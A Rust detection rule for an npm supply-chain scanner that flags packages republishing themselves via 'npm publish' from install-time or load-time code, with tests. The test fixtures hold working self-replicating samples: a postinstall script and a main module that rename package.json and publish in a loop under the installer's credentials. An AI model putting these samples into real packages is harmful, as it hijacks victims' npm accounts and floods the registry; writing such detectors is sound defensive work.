//! `code/self-publish`.

use super::{chain, finding, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Install-time code runs `npm publish`: the package republishes itself (or a renamed copy) with the installer's login.
    ///
    /// ## What it detects
    /// `npm publish` (also `pnpm`/`yarn publish`) in an install-time lifecycle script, in a shell file install-time
    /// code starts, or spawned from install-time JavaScript. npm runs lifecycle scripts in the package's own folder,
    /// so what gets published is the installed package itself, under the installing user's npm credentials — no
    /// token has to be read for that.
    ///
    /// ## Why it matters
    /// Self-replicating packages spread this way: the tea.xyz spam farms (2024–2025) renamed the package, bumped the
    /// version and published again in a loop with the victim's login; Shai-Hulud (2025) republished every package the
    /// victim maintained.
    ///
    /// ## Example
    /// `"postinstall": "node auto.js"` where `auto.js` rewrites `package.json` and runs `execSync('npm publish')`.
    ///
    /// ## Known false positives
    /// Release tools (semantic-release, np, release-it, lerna, changesets) run `npm publish` for the user's project
    /// when the user runs their command (`bin`) or calls their API: not reported. What no release tool does is
    /// publish from the code its `main` entry runs when loaded (module scope or functions load-time code calls),
    /// in a package that declares no command for it: high, critical when that code also rewrites `package.json`
    /// (the spam farms' rename-and-publish loop, run with `node index.js`, no install hook, no token read). A
    /// `prepare` script runs only for git and local installs (and before the author's own `npm publish`), so it
    /// is not install-time either.
    pub static SELF_PUBLISH = { id: "code/self-publish", severity: Severity::Critical };
}

/// One finding per install-time publish.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let imported = super::at_load::imported(p);
    let commands = super::at_load::bin_reached(p);
    per_signal(p, Kind::NpmPublish, |f, s| {
        let install = crate::scripts::at_install(f, s.line);
        // Publishing from the code the main entry runs when loaded, with no command for it.
        let loaded = f.kind == crate::classify::FileKind::JavaScript
            && !commands.contains(f.path.as_str())
            && imported.contains(f.path.as_str())
            && super::at_load::at_load(&imported, f, s);
        if !install && !loaded {
            return None;
        }
        // In JavaScript the publish must be a command line it spawns, not a message.
        let spawned = f.kind != crate::classify::FileKind::JavaScript
            || f.signals
                .iter()
                .any(|o| o.line == s.line && o.kind == Kind::Spawn);
        if !spawned {
            return None;
        }
        let rewrites = f.has(Kind::PackageJsonWrite);
        let when = if install {
            "install-time code"
        } else {
            "code the main entry runs when loaded (no command declared for it)"
        };
        let msg = if rewrites {
            format!("{when} rewrites package.json and runs `npm publish` on the package")
        } else {
            format!("{when} runs `npm publish` on the package: `{}`", s.detail)
        };
        let severity = if install || rewrites {
            SELF_PUBLISH.default_severity
        } else {
            Severity::High
        };
        Some(finding(
            &SELF_PUBLISH,
            severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::PackageJsonWrite, Kind::NpmToken]),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{hits, scan};

    #[test]
    fn positive_rename_and_publish_at_install() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node auto.js\"}}",
            ),
            (
                "auto.js",
                "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst f = __dirname + '/package.json';\nfor (;;) {\n  const pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\n  pkg.name = 'x-' + Math.random().toString(36).slice(2, 6);\n  fs.writeFileSync(f, JSON.stringify(pkg));\n  try { execSync('npm publish --access public', { cwd: __dirname, stdio: 'ignore' }); } catch (e) {}\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/self-publish"),
            vec![("auto.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    #[test]
    fn positive_lifecycle_command() {
        let s = scan(&[(
            "package.json",
            "{\n\"name\":\"t\",\n\"scripts\":{\n\"postinstall\":\"npm version patch --no-git-tag-version && npm publish\"\n}}",
        )]);
        assert_eq!(
            hits(&s, "code/self-publish"),
            vec![("package.json".to_string(), 4)]
        );
    }

    /// Registry spam: the main module, run by hand, renames the package and publishes it in a
    /// timer loop; no install hook, no `bin`.
    #[test]
    fn positive_rename_loop_from_main() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"version\":\"1.0.0\",\"main\":\"index.js\"}",
            ),
            (
                "index.js",
                "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst f = __dirname + '/package.json';\nfunction run() {\n  const pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\n  pkg.name = 'x-' + Math.random().toString(36).slice(2, 6);\n  fs.writeFileSync(f, JSON.stringify(pkg));\n  execSync('npm publish --access public', { cwd: __dirname });\n  setTimeout(run, 7000);\n}\nrun();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/self-publish"),
            vec![("index.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A release library: `publish()` is exported, the user's code or CLI calls it.
    #[test]
    fn negative_exported_publish_api() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"rel\",\"version\":\"1.0.0\",\"main\":\"index.js\"}",
            ),
            (
                "index.js",
                "const { execFileSync } = require('child_process');\nexports.publish = (dir) => execFileSync('npm', ['publish'], { cwd: dir, stdio: 'inherit' });\n",
            ),
        ]);
        assert!(hits(&s, "code/self-publish").is_empty());
    }

    /// A release tool publishes the user's project when the user runs its CLI.
    #[test]
    fn negative_release_tool() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"rel\",\"version\":\"1.0.0\",\"bin\":{\"rel\":\"cli.js\"},\"scripts\":{\"prepare\":\"npm run build\"}}",
            ),
            (
                "cli.js",
                "const fs = require('fs');\nconst { execFileSync } = require('child_process');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.version = process.argv[2];\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\nexecFileSync('npm', ['publish'], { stdio: 'inherit' });\n",
            ),
        ]);
        assert!(hits(&s, "code/self-publish").is_empty());
    }
}
